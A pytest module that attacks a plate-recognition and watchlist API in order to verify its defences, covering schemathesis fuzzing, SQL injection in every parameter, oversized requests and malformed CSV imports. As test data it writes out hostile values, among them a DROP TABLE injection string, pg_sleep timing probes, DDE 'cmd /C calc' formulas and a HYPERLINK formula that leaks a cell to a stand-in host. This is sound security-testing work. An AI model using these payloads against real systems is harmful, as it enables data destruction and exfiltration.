"""Hostile input to the served API: schemathesis from its own OpenAPI document, SQL
injection in every parameter, oversized requests, and hostile CSV imports.

Every answer must be a clear 4xx (or a normal, possibly empty, result), never a
server error, and the database must hold afterwards exactly what the successful
requests wrote: no table dropped or emptied, no row more than the audit trail and
the created entries account for.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import socket
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import requests
import schemathesis
from hostile_inputs import INJECTIONS, examples
from hypothesis import given
from hypothesis.errors import Unsatisfiable
from schemathesis import GenerationMode
from schemathesis.checks import content_type_conformance, not_a_server_error, response_schema_conformance
from served_api import PASSWORD, ApiServer, plate_read, store_alerts, store_reads, watchlist_alert

from ioc.api.middleware import MAX_HEADER_BYTES, MAX_QUERY_BYTES

pytestmark = [
    pytest.mark.parametrize("database_url", ["timescaledb"], indirect=True),
    # schemathesis's own strategies draw from `random`; not ours to fix
    pytest.mark.filterwarnings("ignore::hypothesis.errors.HypothesisDeprecationWarning"),
]
Record = Callable[..., None]  # the reliability_record fixture

PURPOSE = "case 2026/117 hostile input"
JPEG = b"\xff\xd8\xff\xe0 tiny jpeg \xff\xd9"
# the live stream never ends: tests/api/test_live.py covers it; here it would only time out
SKIPPED = {("GET", "/api/alerts/stream")}
SIGN_OUT = ("POST", "/api/auth/sign-out")
SIGNING_OUT = "signing-out"  # the user whose token signs out: every other call's token must hold
# error answers any endpoint may give besides those its operation documents
CLIENT_ERRORS = {400, 401, 403, 404, 405, 409, 413, 414, 415, 422, 429, 431}
# the role each operation is exercised with: the first of these its x-roles admit
ROLE_PREFERENCE = ("supervisor", "auditor", "admin", "operator", "officer")
# successful calls that must add exactly one audit record each (an import: one more per entry)
AUDITED = {("GET", "/api/plates/sightings"), ("GET", "/api/plates/wanted"), ("POST", "/api/watchlist"),
           ("PATCH", "/api/watchlist/{entry_id}"), ("POST", "/api/watchlist/{entry_id}/expire"),
           ("POST", "/api/watchlist/import"), ("GET", "/api/watchlist/export.csv"), ("POST", "/api/users"),
           ("POST", "/api/users/{username}/deactivate"), ("POST", "/api/users/{username}/activate"),
           ("POST", "/api/users/{username}/sign-out"), ("POST", "/api/auth/renew"),
           ("PUT", "/api/cameras/{camera_id}"), ("DELETE", "/api/cameras/{camera_id}"),
           ("GET", "/api/reads/{read_id}/crop.jpg"), ("GET", "/api/alerts/{alert_id}/crop.jpg"),
           ("GET", "/api/alerts/{alert_id}/sightings/{read_id}/crop.jpg")}
# ... and those audited when they find nothing too: their own 404 (by its detail), not a path no route matches
AUDITED_IF_MISSING = {("GET", "/api/reads/{read_id}/crop.jpg"): b"no crop for this read",
                      ("GET", "/api/alerts/{alert_id}/crop.jpg"): b"no crop with this alert",
                      ("GET", "/api/alerts/{alert_id}/sightings/{read_id}/crop.jpg"):
                          b"no crop with this sighting"}


# ----------------------------------------------------------------------------- shared set-up


@dataclass
class Seed:
    read_id: str
    read_at: str
    alert_id: str
    entry_id: str
    tokens: dict[str, str]


async def _seed(api: ApiServer) -> Seed:
    """A read with a crop, a watchlist hit, a watchlist entry and a user per role."""
    tokens = {**await api.all_roles(), SIGNING_OUT: await api.token("officer", SIGNING_OUT)}
    now = datetime.now(UTC)
    reads = [plate_read("30A12345", captured_at=now - timedelta(minutes=5), crop=JPEG),
             plate_read("51F86988", captured_at=now - timedelta(minutes=6))]
    await store_reads(api, reads)
    alert = watchlist_alert("30A12345", read=reads[0])
    await store_alerts(api, [alert])
    async with api.client("supervisor") as client:
        entry = await client.post("/api/watchlist", json={"pattern": "29X504899", "reason": "seed"})
        assert entry.status_code == 201, entry.text
    return Seed(read_id=str(reads[0].read_id), read_at=reads[0].captured_at.isoformat(),
                alert_id=str(alert.alert_id), entry_id=entry.json()["entry_id"], tokens=tokens)


async def _snapshot(api: ApiServer) -> dict[str, Any]:
    """Row counts of every table, and who holds which role: what an injection would change."""
    tables = [name for (name,) in await api.sql(
        "SELECT tablename FROM pg_tables WHERE schemaname = current_schema() ORDER BY tablename")]
    counts = {t: (await api.sql(f'SELECT count(*) FROM "{t}"'))[0][0] for t in tables}
    roles = dict(await api.sql("SELECT username, role FROM users WHERE active"))
    return {"counts": counts, "roles": roles}


def _role_for(operation: dict[str, Any]) -> str | None:
    admitted = operation.get("x-roles", ["public"])
    if admitted == ["public"]:
        return None
    return next(r for r in ROLE_PREFERENCE if r in admitted)


def _operations(document: dict[str, Any]) -> dict[tuple[str, str], dict[str, Any]]:
    return {(method.upper(), path): op for path, item in document["paths"].items()
            for method, op in item.items() if (method.upper(), path) not in SKIPPED}


@dataclass
class Ledger:
    """What the requests did: how many, their statuses, and what they were allowed to write."""

    requests: int = 0
    statuses: Counter[int] = field(default_factory=Counter)
    audited: int = 0
    watchlist_added: int = 0
    users_added: int = 0
    cameras_registered: set[str] = field(default_factory=set)
    cameras_removed: int = 0  # of those registered here (none other exists)
    signed_out: int = 0
    failures: list[str] = field(default_factory=list)

    def note(self, method: str, path: str, status: int, body: bytes, what: str) -> None:
        self.requests += 1
        self.statuses[status] += 1
        if status >= 500 or status not in CLIENT_ERRORS and not 200 <= status < 300:
            self.failures.append(f"{method} {path} -> {status} for {what}: {body[:200]!r}")
            return
        missing = AUDITED_IF_MISSING.get((method, path))
        if status == 404 and missing is not None and missing in body:
            self.audited += 1
        if 200 <= status < 300:
            self.audited += (method, path) in AUDITED
            if (method, path) == ("POST", "/api/watchlist"):
                self.watchlist_added += 1
            elif (method, path) == ("POST", "/api/watchlist/import"):
                result = json.loads(body)  # one audit record for the import, one per entry
                self.watchlist_added += result["added"]
                self.audited += result["added"] + result["updated"]
            elif (method, path) == ("POST", "/api/users"):
                self.users_added += 1
            elif (method, path) == ("PUT", "/api/cameras/{camera_id}"):
                self.cameras_registered.add(json.loads(body)["camera_id"])
            elif (method, path) == ("DELETE", "/api/cameras/{camera_id}"):
                self.cameras_removed += 1
            elif (method, path) == SIGN_OUT:
                self.signed_out += 1


def _statuses(ledger: Ledger) -> dict[int, int]:
    return dict(sorted(ledger.statuses.items()))


async def _assert_accounted(api: ApiServer, before: dict[str, Any], ledger: Ledger) -> None:
    """Every table still there; only the audit log, watchlist, users, cameras and signed-out tokens
    grew, by what the successful requests account for; nobody's role changed."""
    after = await _snapshot(api)
    assert set(after["counts"]) == set(before["counts"]), "a table appeared or disappeared"
    grown = {t: after["counts"][t] - before["counts"][t] for t in after["counts"]
             if after["counts"][t] != before["counts"][t]}
    # a sign-out ends its token (a row) or, with `everywhere`, every session of its user (an audit record)
    everywhere_sql = "SELECT count(*) FROM audit_log WHERE action = 'auth.sign_out_everywhere'"
    [(everywhere,)] = await api.sql(everywhere_sql)
    expected = {"audit_log": ledger.audited + everywhere, "watchlist_entries": ledger.watchlist_added,
                "users": ledger.users_added,
                "cameras": len(ledger.cameras_registered) - ledger.cameras_removed,
                "signed_out_tokens": ledger.signed_out - everywhere}
    # alert status changes keep a history row each; the seeded alert may take a few. Each change is
    # queued for publishing and taken off once published (the seeded alert's row may go or stay)
    grown.pop("alert_events", None)
    grown.pop("alert_outbox", None)
    assert grown == {t: n for t, n in expected.items() if n}, (grown, expected)
    for username, role in before["roles"].items():
        assert after["roles"].get(username, role) == role, f"{username} changed role"


# ----------------------------------------------------------------------------- schemathesis


def _fuzz_operation(
    operation: schemathesis.APIOperation, mode: GenerationMode, *, url: str, headers: dict[str, str],
    documented: set[int], budget: int, session: requests.Session, ledger: Ledger,
) -> int:
    """``budget`` examples of one operation in one mode, each checked as it comes (no
    shrinking against the live server: a failure is recorded and the run goes on)."""
    key = (operation.method.upper(), operation.path)
    checks = [not_a_server_error, response_schema_conformance, content_type_conformance]
    generated = 0

    @examples(budget)
    @given(case=operation.as_strategy(generation_mode=mode))
    def exercise(case: schemathesis.Case) -> None:
        nonlocal generated
        generated += 1
        response = case.call(base_url=url, headers=headers, session=session, timeout=20)
        ledger.note(*key, response.status_code, response.content, f"{mode.value} example")
        if response.status_code not in documented | CLIENT_ERRORS:
            ledger.failures.append(f"{key} -> undocumented {response.status_code}")
        try:
            case.validate_response(response, checks=checks)
        except (AssertionError, BaseExceptionGroup) as exc:  # collected, then reported together
            ledger.failures.append(f"{key} {mode.value}: {str(exc)[:600]}")

    try:
        exercise()
    except Unsatisfiable:
        assert mode is GenerationMode.NEGATIVE, key  # no input to make invalid (GET /healthz)
    return generated


def _run_schemathesis(document: dict[str, Any], url: str, seed: Seed, ledger: Ledger) -> int:
    """Every operation, positive and negative examples. Runs in a thread: the server
    shares the test's event loop."""
    schema = schemathesis.openapi.from_dict(document)
    session = requests.Session()
    generated = 0
    for result in schema.get_all_operations():
        operation = result.ok()
        key = (operation.method.upper(), operation.path)
        if key in SKIPPED:
            continue
        spec = document["paths"][operation.path][operation.method.lower()]
        role = SIGNING_OUT if key == SIGN_OUT else _role_for(spec)
        # sign-in and user creation hash passwords (scrypt, slow on purpose): fewer examples
        budget = 6 if key in {("POST", "/api/auth/token"), ("POST", "/api/users")} else 25
        for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
            generated += _fuzz_operation(
                operation, mode, url=url, budget=budget, session=session, ledger=ledger,
                headers={"Authorization": f"Bearer {seed.tokens[role]}"} if role else {},
                documented={int(code) for code in spec.get("responses", {}) if code.isdigit()})
    return generated


async def test_schemathesis_finds_no_server_error(api: ApiServer, reliability_record: Record) -> None:
    seed = await _seed(api)
    async with api.client() as client:
        document = (await client.get("/openapi.json")).json()
    before = await _snapshot(api)
    ledger = Ledger()
    started = time.monotonic()
    generated = await asyncio.to_thread(_run_schemathesis, document, api.url, seed, ledger)
    assert not ledger.failures, "\n".join(ledger.failures[:20])
    await _assert_accounted(api, before, ledger)
    operations = len(_operations(document))
    reliability_record(area="hostile", inputs=f"schemathesis: {generated:,} generated requests (positive and "
                       f"negative) on {operations} operations of the OpenAPI document",
                       outcome=f"0 server errors, 0 schema violations in {ledger.requests:,} requests "
                       f"({time.monotonic() - started:.0f} s); statuses {_statuses(ledger)}",
                       stored_wrongly=0)


# ----------------------------------------------------------------------------- SQL injection


@dataclass
class Call:
    """One well-formed request; ``slots`` are the places a value can be swapped."""

    role: str | None
    path: dict[str, str] = field(default_factory=dict)
    query: dict[str, str] = field(default_factory=dict)
    json: dict[str, Any] | None = None
    form: dict[str, str] | None = None
    csv: dict[str, str] | None = None


def _valid_calls(seed: Seed) -> dict[tuple[str, str], Call]:
    since, until = "2026-01-01T00:00:00Z", "2100-01-01T00:00:00Z"
    sighting = {"plate": "30A12345", "purpose": PURPOSE}
    return {
        ("GET", "/healthz"): Call(None),
        ("GET", "/livez"): Call(None),
        ("GET", "/metrics"): Call(None),
        ("POST", "/api/auth/token"): Call(None, form={"username": "officer", "password": PASSWORD}),
        ("GET", "/api/auth/me"): Call("officer"),
        SIGN_OUT: Call(SIGNING_OUT),
        ("POST", "/api/auth/renew"): Call("officer"),
        ("GET", "/api/plates/sightings"): Call("officer", query={**sighting, "since": since, "until": until}),
        ("GET", "/api/plates/wanted"): Call("officer", query=sighting),
        ("GET", "/api/reads/{read_id}/crop.jpg"): Call("officer", path={"read_id": seed.read_id},
                                                        query={"at": seed.read_at}),
        ("GET", "/api/alerts"): Call("operator", query={"limit": "10"}),
        ("GET", "/api/alerts/decision-reasons"): Call("officer"),
        ("GET", "/api/alerts/decisions"): Call("supervisor", query={"since": since, "until": until}),
        ("GET", "/api/alerts/{alert_id}"): Call("operator", path={"alert_id": seed.alert_id}),
        ("GET", "/api/alerts/{alert_id}/crop.jpg"): Call("operator", path={"alert_id": seed.alert_id}),
        ("GET", "/api/alerts/{alert_id}/sightings/{read_id}/crop.jpg"): Call(
            "operator", path={"alert_id": seed.alert_id, "read_id": seed.read_id}),
        ("GET", "/api/alerts/{alert_id}/history"): Call("operator", path={"alert_id": seed.alert_id}),
        ("POST", "/api/alerts/{alert_id}/status"): Call("operator", path={"alert_id": seed.alert_id},
                                                        json={"status": "acknowledged", "note": "seen"}),
        ("POST", "/api/alerts/{alert_id}/decision"): Call("officer", path={"alert_id": seed.alert_id},
                                                          json={"decision": "rejected", "note": "checked",
                                                                "reason": "misread plate"}),
        ("GET", "/api/watchlist"): Call("operator", query={"limit": "10"}),
        ("GET", "/api/watchlist/export.csv"): Call("operator"),
        ("POST", "/api/watchlist/import"): Call("operator", csv={"pattern": "51G12345", "reason": "import"}),
        ("POST", "/api/watchlist"): Call("operator", json={"pattern": "51F86988", "reason": "injection test",
                                                            "priority": 2}),
        ("GET", "/api/watchlist/{entry_id}"): Call("operator", path={"entry_id": seed.entry_id}),
        ("PATCH", "/api/watchlist/{entry_id}"): Call("operator", path={"entry_id": seed.entry_id},
                                                     json={"reason": "changed", "priority": 1}),
        ("POST", "/api/watchlist/{entry_id}/expire"): Call("operator", path={"entry_id": seed.entry_id},
                                                           json={"note": "done"}),
        ("GET", "/api/counts"): Call("operator", query={"granularity": "hour", "minutes": "120"}),
        ("GET", "/api/cameras"): Call("operator"),
        ("PUT", "/api/cameras/{camera_id}"): Call("admin", path={"camera_id": "FUZZ-CAM1"},
                                                  json={"checkpoint_id": "FUZZ", "expected_interval_s": 30,
                                                        "look_closer": "always"}),
        ("DELETE", "/api/cameras/{camera_id}"): Call("admin", path={"camera_id": "FUZZ-CAM2"}),
        ("GET", "/api/audit"): Call("auditor", query={"limit": "10"}),
        ("GET", "/api/audit/mine"): Call("officer", query={"limit": "10"}),
        ("GET", "/api/users"): Call("admin"),
        ("POST", "/api/users"): Call("admin", json={"username": "fuzz-user", "role": "officer",
                                                    "password": "long enough pass"}),
        ("POST", "/api/users/{username}/deactivate"): Call("admin", path={"username": "nobody"}),
        ("POST", "/api/users/{username}/activate"): Call("admin", path={"username": "nobody"}),
        ("POST", "/api/users/{username}/sign-out"): Call("admin", path={"username": "nobody"}),
    }


def _slots(operation: dict[str, Any], call: Call, document: dict[str, Any]) -> list[tuple[str, str]]:
    """Every (place, name) a client controls: path and query parameters as documented
    (optional ones too), JSON body properties, form fields and CSV cells."""
    slots = [(p["in"], p["name"]) for p in operation.get("parameters", []) if p["in"] in ("path", "query")]
    if call.json is not None:
        body = operation["requestBody"]["content"]["application/json"]["schema"]
        while "$ref" in body or "anyOf" in body:
            if "anyOf" in body:
                body = next(s for s in body["anyOf"] if s.get("type") != "null")
                continue
            body = document["components"]["schemas"][body["$ref"].rsplit("/", 1)[1]]
        slots += [("json", name) for name in body["properties"]]
    slots += [("form", name) for name in call.form or {}]
    slots += [("csv", name) for name in call.csv or {}]
    return slots


def _request(call: Call, path: str, slot: tuple[str, str] | None, value: str) -> dict[str, Any]:
    """httpx request arguments for ``call`` with ``value`` in ``slot``."""
    where, name = slot or ("", "")
    path_values = {**call.path, **({name: value} if where == "path" else {})}
    url = path
    for key, item in path_values.items():
        url = url.replace("{" + key + "}", quote(item, safe="") if where == "path" and key == name else item)
    query = {**call.query, **({name: value} if where == "query" else {})}
    kwargs: dict[str, Any] = {"url": url, "params": query}
    if call.json is not None:  # ASCII JSON: a lone surrogate travels as its escape, as a client may send it
        kwargs["content"] = json.dumps({**call.json, **({name: value} if where == "json" else {})}).encode()
        kwargs["headers"] = {"content-type": "application/json"}
    if call.form is not None:
        kwargs["data"] = {**call.form, **({name: value} if where == "form" else {})}
    if call.csv is not None:
        cells = {**call.csv, **({name: value} if where == "csv" else {})}
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(list(cells))
        writer.writerow(list(cells.values()))
        kwargs["content"] = out.getvalue().encode("utf-8", "surrogatepass")
        kwargs["headers"] = {"content-type": "text/csv"}
    return kwargs


async def test_sql_injection_in_every_parameter(api: ApiServer, reliability_record: Record) -> None:
    seed = await _seed(api)
    async with api.client() as client:
        document = (await client.get("/openapi.json")).json()
    operations = _operations(document)
    calls = _valid_calls(seed)
    assert set(calls) == set(operations), "an endpoint was added: give it a well-formed call here"
    before = await _snapshot(api)
    ledger = Ledger()
    slowest = 0.0
    slots_tried = 0
    async with api.client() as client:
        for (method, path), call in calls.items():
            headers = {"Authorization": f"Bearer {seed.tokens[call.role]}"} if call.role else {}
            for slot in _slots(operations[(method, path)], call, document):
                slots_tried += 1
                for value in INJECTIONS:
                    try:
                        kwargs = _request(call, path, slot, value)
                        request = client.build_request(method, **kwargs)
                    except (httpx.InvalidURL, UnicodeEncodeError):
                        continue  # a value no client can put in a URL or a UTF-8 body (lone surrogate)
                    request.headers.update(headers)
                    started = time.monotonic()
                    response = await client.send(request)
                    if "pg_sleep" in value:
                        slowest = max(slowest, time.monotonic() - started)
                    ledger.note(method, path, response.status_code, response.content, f"{slot}={value!r}")
    assert not ledger.failures, "\n".join(ledger.failures[:20])
    assert slowest < 4.0, f"a pg_sleep injection took {slowest:.1f} s: it may have run"
    await _assert_accounted(api, before, ledger)
    reliability_record(area="hostile", inputs=f"{len(INJECTIONS)} SQL-injection and control-character "
                       f"strings in {slots_tried} parameters of {len(calls)} endpoints "
                       f"({ledger.requests:,} requests)",
                       outcome=f"0 server errors; statuses {_statuses(ledger)}; every table "
                       "intact, rows added only by the successful requests (audit, watchlist)",
                       stored_wrongly=0)


# ----------------------------------------------------------------------------- oversized requests


def _raw(port: int, request: bytes) -> int:
    """Send bytes as they are (no client would send these) and read the status code."""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as sock:
        with contextlib.suppress(OSError):  # the server may answer and close before reading it all
            sock.sendall(request)
        reply = b""
        while b"\r\n" not in reply:
            chunk = sock.recv(4096)
            if not chunk:
                break
            reply += chunk
    return int(reply.split(b" ", 2)[1]) if reply.startswith(b"HTTP/1.1 ") else 0


async def test_oversized_requests_are_refused(api: ApiServer, reliability_record: Record) -> None:
    seed = await _seed(api)
    before = await _snapshot(api)
    token = seed.tokens["supervisor"]
    port = api.settings.api_port
    auth = f"Authorization: Bearer {token}\r\n".encode()
    limit = api.settings.api_max_body_bytes
    outcomes: dict[str, int] = {}

    def get(target: bytes, extra: bytes = b"") -> bytes:
        return b"GET " + target + b" HTTP/1.1\r\nHost: api\r\n" + auth + extra + b"Connection: close\r\n\r\n"

    sightings = b"/api/plates/sightings?plate=30A12345&purpose=case+1"
    for size in (MAX_QUERY_BYTES + 1, 60_000, 1_000_000):
        outcomes[f"query string of {size:,} bytes"] = await asyncio.to_thread(
            _raw, port, get(sightings + b"&x=" + b"a" * size))
    outcomes[f"one header of {MAX_HEADER_BYTES + 1:,} bytes"] = await asyncio.to_thread(
        _raw, port, get(b"/api/auth/me", b"X-Big: " + b"a" * (MAX_HEADER_BYTES + 1) + b"\r\n"))
    outcomes["one header of 8 MB"] = await asyncio.to_thread(
        _raw, port, get(b"/api/auth/me", b"X-Big: " + b"a" * 8_000_000 + b"\r\n"))
    outcomes["5,000 headers"] = await asyncio.to_thread(
        _raw, port, get(b"/api/auth/me", b"".join(b"X-H%d: value\r\n" % i for i in range(5000))))
    outcomes["a 1 MB bearer token"] = await asyncio.to_thread(
        _raw, port, b"GET /api/auth/me HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer " + b"a" * 1_000_000
        + b"\r\nConnection: close\r\n\r\n")
    async with api.client("supervisor") as client:
        big = {"pattern": "30A12345", "reason": "r" * (limit + 10)}
        outcomes["JSON body over the limit"] = (await client.post("/api/watchlist", json=big)).status_code
        outcomes["CSV over the limit"] = (await client.post(
            "/api/watchlist/import", content=b"pattern,reason\n" + b"30A12345,x\n" * (limit // 10),
            headers={"content-type": "text/csv"})).status_code
        outcomes["sign-in form over the limit"] = (await client.post(
            "/api/auth/token", content=b"username=" + b"a" * (limit + 1),
            headers={"content-type": "application/x-www-form-urlencoded"})).status_code

        async def chunks():  # noqa: ANN202 - no Content-Length: the limit is counted while it streams
            for _ in range(limit // 50_000 + 2):
                yield b"x" * 50_000

        outcomes["chunked body over the limit"] = (await client.post(
            "/api/watchlist", content=chunks(), headers={"content-type": "application/json"})).status_code
        deep = b"[" * 200_000 + b"]" * 200_000
        for method, path in (("POST", "/api/watchlist"), ("POST", "/api/auth/token"),
                             ("PATCH", f"/api/watchlist/{seed.entry_id}"), ("POST", "/api/users")):
            outcomes[f"200,000-deep JSON to {method} {path.split('/')[2]}"] = (await client.request(
                method, path, content=deep, headers={"content-type": "application/json"})).status_code
        outcomes["reason 501 characters"] = (await client.post(
            "/api/watchlist", json={"pattern": "30A12345", "reason": "r" * 501})).status_code
        outcomes["plate 25 characters"] = (await client.get(
            "/api/plates/sightings", params={"plate": "3" * 25, "purpose": PURPOSE})).status_code
        outcomes["purpose 201 characters"] = (await client.get(
            "/api/plates/sightings", params={"plate": "30A12345", "purpose": "p" * 201})).status_code
        for name, params in (("limit 10**30", {"limit": str(10**30)}),
                             ("cursor 10 kB", {"cursor": "A" * 10_000})):
            outcomes[name] = (await client.get("/api/alerts", params=params)).status_code
        outcomes["offset 2**63 (past bigint)"] = (await client.get(
            "/api/watchlist", params={"offset": str(2**63)})).status_code
    expected = {
        "query string": {414, 400},  # over 64 KiB uvicorn's parser answers 400 before the app sees it
        "header": {431}, "headers": {431}, "token": {431},
        "over the limit": {413}, "deep JSON": {400, 422},
        "characters": {422}, "limit": {422}, "cursor": {414, 422}, "bigint": {422},
    }
    for name, status in outcomes.items():
        allowed = next(codes for key, codes in expected.items() if key in name)
        assert status in allowed, (name, status, outcomes)
    assert (await api.client("supervisor").get("/api/auth/me")).status_code == 200, "the server still answers"
    after = await _snapshot(api)
    assert after["counts"] == before["counts"], "an oversized request stored something"
    reliability_record(area="hostile", inputs=f"{len(outcomes)} oversized or deep requests (query strings to "
                       "1 MB, headers to 8 MB, 5,000 headers, bodies over the limit, chunked, "
                       "200,000-deep JSON)",
                       outcome=f"all refused: {dict(Counter(outcomes.values()))}; 0 server errors",
                       stored_wrongly=0)


# ----------------------------------------------------------------------------- CSV import and export


async def _import(client: httpx.AsyncClient, body: bytes) -> httpx.Response:
    return await client.post("/api/watchlist/import", content=body, headers={"content-type": "text/csv"})


def _csv(*rows: list[str]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode()


FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            '=HYPERLINK("http://x.invalid/?leak="&A1,"click")')


async def test_hostile_csv_imports(api: ApiServer, reliability_record: Record) -> None:
    await _seed(api)
    entries = lambda: api.sql("SELECT count(*) FROM watchlist_entries")  # noqa: E731
    start = (await entries())[0][0]
    header = ["pattern", "reason", "priority", "expires_at", "entry_id"]
    bad_rows = [
        ["*", "scans everything", "", "", ""],
        ["*12*", "two literals", "", "", ""],
        ["30A12345", "", "", "", ""],                     # no reason
        ["30A12345", "bad priority", "high", "", ""],
        ["30A12345", "priority out of range", "99", "", ""],
        ["30A12345", "naive expiry", "", "2030-01-01T00:00:00", ""],
        ["30A12345", "not a date", "", "tomorrow", ""],
        ["30A12345", "bad id", "", "", "'; DROP TABLE watchlist_entries; --"],
        ["30A12345", "r" * 501, "", "", ""],
        ["30A12345", "nul \x00 in reason", "", "", ""],
        ["30A12345", "x" * 200_000, "", "", ""],            # over the csv module's field limit
    ]
    good_row = ["51F86988", "fine", "1", "", ""]
    outcomes: dict[str, Any] = {}
    async with api.client("supervisor") as client:
        mixed = await _import(client, _csv(header, good_row, *bad_rows))
        assert mixed.status_code == 422, mixed.text
        problems = mixed.json()["errors"]
        assert [p["line"] for p in problems] == list(range(3, 3 + len(bad_rows))), problems
        assert all(p["error"] for p in problems)
        outcomes["mixed good and bad rows"] = f"422, {len(problems)} row errors"
        whole_file = {
            "utf-16": "pattern,reason\r\n30A12345,x\r\n".encode("utf-16"),
            "latin-1": "pattern,reason\r\n30A12345,Café crème\r\n".encode("latin-1"),
            "no header": _csv(["30A12345", "x"]),
            "header without reason": _csv(["pattern", "note"], ["30A12345", "x"]),
            "empty": b"",
            "binary": bytes(range(256)) * 10,
            "unterminated quote": b'pattern,reason\r\n30A12345,"never closed\r\n51F86988,x\r\n',
            "10,001 rows": b"pattern,reason\n" + b"".join(b"30A%05d,x\n" % i for i in range(10_001)),
        }
        for name, body in whole_file.items():
            response = await _import(client, body)
            outcomes[name] = response.status_code
            allowed = {413} if name == "10,001 rows" else {422}
            assert response.status_code in allowed, (name, response.status_code, response.text[:300])
        assert (await entries())[0][0] == start, "a refused import stored something"
        # formula cells import as plain text and export escaped
        rows = [["pattern", "reason"]] + [[f"30A1234{i}", formula] for i, formula in enumerate(FORMULAS)]
        imported = await _import(client, _csv(*rows))
        assert imported.status_code == 200 and imported.json()["added"] == len(FORMULAS), imported.text
        exported = await client.get("/api/watchlist/export.csv")
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))) for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous
    reasons = {row["reason"] for row in csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff")))}
    kept = {f.strip() for f in FORMULAS}  # cells are trimmed on import, as every import cell is
    assert {"'" + f for f in kept} <= reasons, reasons
    async with api.client("supervisor") as client:  # and the escaped export imports back to the same text
        again = await _import(client, exported.content)
        assert again.status_code == 200 and again.json()["updated"] >= len(FORMULAS), again.text
    stored = {r for (r,) in await api.sql("SELECT reason FROM watchlist_entries")}
    assert kept <= stored, "round trip changed a reason"
    reliability_record(area="hostile", inputs=f"{len(bad_rows) + 1}-row CSV with {len(bad_rows)} bad rows; "
                       f"{len(whole_file)} malformed files (UTF-16, Latin-1, binary, 10,001 rows...); "
                       f"{len(FORMULAS)} formula-injection cells exported",
                       outcome="per-row errors with line numbers, nothing half-imported; every formula cell "
                       "exported with a leading quote and re-imported unchanged", stored_wrongly=0)

